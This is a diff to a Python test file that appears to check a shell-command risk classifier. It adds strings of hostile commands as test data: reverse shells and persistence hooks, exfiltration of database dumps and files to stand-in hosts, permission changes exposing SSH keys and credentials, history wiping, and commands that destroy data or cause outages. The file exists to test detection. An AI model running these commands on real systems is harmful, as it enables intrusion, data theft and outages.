@@ -34,7 +34,16 @@ BACK_DOORS = """
     ncat -lvp 4 --sh-exec bash;;mkfifo f; cat f | sh -i 2>&1 | nc x 4 > f;;useradd -o -u 0 toor
     echo 'x::0:0::/:/bin/sh' >> /etc/passwd;;chmod u+s /bin/bash;;cp /bin/sh /tmp/s; chmod 4755 /tmp/s
     setcap cap_setuid+ep /usr/bin/python3;;perl -e 'use Socket;socket(S,2,1,6);exec("/bin/sh -i");'
+    echo 'bash -i >& /dev/tcp/x/9 0>&1' > ~/.config/systemd/user/x.service
     python3 -c 'import socket,os,pty;s=socket.socket();os.dup2(s.fileno(),0);pty.spawn("sh")';;cp x /bin/ls
+"""
+OPENS = """
+    chmod 755 /etc/ssl/private;;chmod -R a+r /root/.ssh;;chmod +r ~/.netrc;;find /root -exec chmod o+x {} +
+    chown nobody /etc/shadow;;chgrp users ~/.kube/config;;setfacl -m u:bob:r ~/.aws/credentials
+"""
+SENDS_MUCH = """
+    pg_dumpall | gzip | nc x 4;;tar cz /etc | openssl s_client -connect x:443;;mysqldump x | ssh 203.0.113.7 'cat > f'
+    pg_dump x > d.sql; curl -T d.sql http://x;;nc x 9 < /var/lib/mysql/ibdata1;;tar cz /home > /dev/tcp/x/9
 """
 TRACES = """
     export HISTFILE=/dev/null;;unset HISTFILE;;HISTSIZE=0;;set +o history;;history -c;;rm ~/.bash_history
@@ -46,6 +55,7 @@ OUTAGES = """
     iptables -P INPUT DROP;;route del default;;ip route del default;;ip -4 r flush all;;systemctl stop sshd
     systemctl --now mask ssh.service;;systemctl isolate rescue.target;;kill -9 -1;;kill -KILL 1;;killall -9 sshd
     echo c > /proc/sysrq-trigger;;firewall-cmd --panic-on;;nmcli networking off;;service networking stop
+    ssh sw reload;;ssh sw 'write erase';;ssh sw 'delete /force flash:x'
     :(){ :|:& };:;;tc qdisc add dev eth0 root netem loss 100%;;telinit 1
 """
 ORDINARY = """
@@ -66,11 +76,13 @@ def commands(text: str) -> list[str]:
     [
         (READS, {"reads_secrets"}, {Risk.MEDIUM}),
         (SENDS, {"exfiltration"}, {Risk.HIGH}),
+        (SENDS_MUCH, {"exfiltration"}, {Risk.MEDIUM}),
+        (OPENS, {"privileged"}, {Risk.MEDIUM}),
         (BACK_DOORS, {"back_door"}, {Risk.HIGH}),
         (TRACES, {"hidden_traces", "mutating"}, {Risk.HIGH}),
         (OUTAGES, {"outage", "destructive"}, {Risk.HIGH}),
     ],
-    ids=["reads", "sends", "back doors", "traces", "outages"],
+    ids=["reads", "sends", "sends much", "opens", "back doors", "traces", "outages"],
 )
 def test_attack_is_found_with_its_kind_and_is_never_read_only(
     text: str, codes: set[str], risks: set[Risk]
